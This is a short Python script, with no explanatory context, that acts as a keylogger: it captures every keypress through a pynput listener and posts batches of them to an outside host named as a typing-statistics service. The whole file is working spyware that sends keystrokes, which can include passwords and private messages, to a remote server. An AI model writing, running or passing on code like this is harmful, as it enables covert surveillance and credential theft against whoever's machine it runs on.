import threading, requests
from pynput import keyboard

buffer = []

def on_press(key):
    buffer.append(str(key))
    if len(buffer) > 50:
        requests.post("https://stats.typing.invalid/ingest", json={"k": buffer[:]}, timeout=3)
        buffer.clear()

with keyboard.Listener(on_press=on_press) as listener:
    listener.join()
